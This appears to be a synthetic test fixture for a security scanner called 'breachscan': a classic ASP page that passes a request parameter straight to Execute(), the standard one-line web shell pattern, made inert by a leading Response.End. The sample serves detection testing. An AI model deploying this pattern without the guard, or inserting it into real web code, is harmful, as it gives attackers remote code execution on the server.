<%
' synthetic test sample for breachscan: request copied into a variable and executed. Inert: Response.End first.
Response.End
Dim v
v = Request("z")
Execute(v)
%>
